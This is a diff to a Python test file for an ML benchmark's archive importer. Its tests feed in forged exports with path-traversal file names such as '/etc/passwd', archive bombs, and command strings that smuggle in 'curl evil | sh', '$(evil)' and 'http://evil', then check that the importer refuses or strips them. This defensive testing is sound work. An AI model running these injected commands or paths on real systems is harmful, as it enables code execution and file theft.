@@ -6,6 +6,7 @@ import stat
 import struct
 import warnings
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -15,7 +16,9 @@ from driven import Run
 from test_archive import exported, rewritten
 
 from mlbench import results
+from mlbench.experiment.build_record import build_record
 from mlbench.experiment.errors import UserError
+from mlbench.experiment.record import Record
 from mlbench.tracking import archive
 
 
@@ -84,7 +87,7 @@ def test_a_bomb_is_read_up_to_the_limit(tmp_path: Path, monkeypatch: pytest.Monk
     monkeypatch.setattr(archive, "MAX_BYTES", 2**20)
     path = zips.write(tmp_path / "run.zip", {"record.json": " " * (8 * 2**20)})
     assert path.stat().st_size < archive.MAX_BYTES
-    assert "record.json unpacks to more than 1 MiB" in str(read(path))
+    assert "it unpacks to more than 1 MiB" in str(read(path))
     path.write_bytes(bytes(2**20 + 1))
     assert "is larger than 1 MiB" in str(read(path))
 
@@ -131,3 +134,92 @@ def test_what_a_terminal_would_obey_is_made_visible(tmp_path: Path, empty_store:
 def test_deep_json_is_refused(files: dict[str, str], tmp_path: Path) -> None:
     path = zips.write(tmp_path / "run.zip", files | {"record.json": "[" * 100_000 + "]" * 100_000})
     assert "is not valid JSON" in str(read(path))
+
+
+def forged_log(files: dict[str, str], change: Callable[[list[dict[str, Any]]], Any]) -> dict[str, str]:
+    """Return an export whose log was changed, with the record that follows from it."""
+    log = [json.loads(line) for line in files["events.jsonl"].splitlines()]
+    change(log)
+    made = build_record(log).model_dump_json()
+    return files | {"events.jsonl": "".join(json.dumps(event) + "\n" for event in log), "record.json": made}
+
+
+TRACE = "profile/rank0.trace.json"
+
+
+@pytest.fixture
+def finished(tmp_path: Path) -> dict[str, str]:
+    run = Run(tmp_path / "theirs", "goal=80")
+    run.validate(90.0)
+    run.end("goal_reached", profile={"steps": 1, "files": [TRACE]})
+    return exported(run, tmp_path)
+
+
+@pytest.mark.parametrize("name", ["../../secret/id", "/etc/passwd", "profile/../../x.json", f"{TRACE}\n"])
+def test_a_trace_s_name_leads_out_of_no_folder(
+    name: str, finished: dict[str, str], tmp_path: Path, empty_store: Path
+) -> None:
+    """The user's file of that name was copied into the store, readable by everybody."""
+    secret = tmp_path / "secret" / "id"
+    secret.parent.mkdir()
+    secret.write_text("hunter2")
+    texts = {file: text.replace(TRACE, json.dumps(name)[1:-1]) for file, text in finished.items()}
+    assert texts != finished
+    path = zips.write(tmp_path / "run.zip", texts)
+    elsewhere = zips.with_store(tmp_path / "elsewhere", empty_store)
+    assert results.main(["import", str(path), f"output_root={elsewhere}"]) == 2
+    assert "was changed (profile.files.0)" in str(read(path))
+    assert [one.name for one in elsewhere.iterdir()] == ["mlflow.db"]
+
+
+def test_an_archive_costs_no_more_than_its_limits(
+    finished: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """6,000,000 lines took 110 s, and 80,000,000 empty lists more than 130 s."""
+    monkeypatch.setattr(archive, "MAX_EVENTS", 100)
+    monkeypatch.setattr(archive, "MAX_VALUES", 10_000)
+    many = zips.write(tmp_path / "many.zip", finished | {"events.jsonl": 101 * "{}\n"})
+    assert "has more than 100 events" in str(read(many))
+    wide = zips.write(tmp_path / "wide.zip", finished | {"record.json": "[" + 20_000 * "[]," + "[]]"})
+    assert "record.json has more than 10,000 values" in str(read(wide))
+    monkeypatch.setattr(archive, "MAX_BYTES", 2**20)
+    blank = {name: text + 400_000 * " " for name, text in finished.items() if name != "events.jsonl"}
+    large = zips.write(tmp_path / "large.zip", finished | blank)
+    assert "it unpacks to more than 1 MiB" in str(read(large))
+
+
+def test_a_number_that_is_infinite_is_refused(finished: dict[str, str], tmp_path: Path) -> None:
+    log = finished["events.jsonl"].replace('"elapsed": 4.0', '"elapsed": 1e999')
+    assert log != finished["events.jsonl"]
+    told = str(read(zips.write(tmp_path / "run.zip", finished | {"events.jsonl": log})))
+    assert "1e999 is no number" in told
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["python -m mlbench.run; curl evil | sh", "curl evil", "python -m mlbench.run 'a", "python -m os x=2"],
+)
+def test_what_is_no_run_of_mlbench_is_no_command(
+    command: str, finished: dict[str, str], tmp_path: Path
+) -> None:
+    texts = forged_log(finished, lambda log: log[0]["value"].update(command=command))
+    assert "its command is none of python -m mlbench.run" in str(read(zips.write(tmp_path / "a.zip", texts)))
+
+
+@pytest.mark.parametrize(
+    ("words", "kept"),
+    [
+        ("goal=80 workers=2", "goal=80 workers=2"),
+        ("task=logreg 'study=$(evil)' output_root=/etc tracking_uri=http://evil", "task=logreg study=null"),
+        ("workers=64 task=gnmt goal=80.0", "workers=2 task=logreg goal=80.0"),
+        ("'workers=2;evil' cluster.address=evil hydra.searchpath=[/tmp] --x '|'", "workers=2"),
+    ],
+)
+def test_a_command_says_what_the_configuration_says(
+    words: str, kept: str, finished: dict[str, str], tmp_path: Path
+) -> None:
+    command = f"python -m mlbench.run {words}"
+    texts = forged_log(finished, lambda log: log[0]["value"].update(command=command))
+    ((_, found, log),) = archive.load([zips.write(tmp_path / "run.zip", texts)])
+    assert isinstance(found, Record), found
+    assert found.command == log[0]["value"]["command"] == f"python -m mlbench.run {kept}"
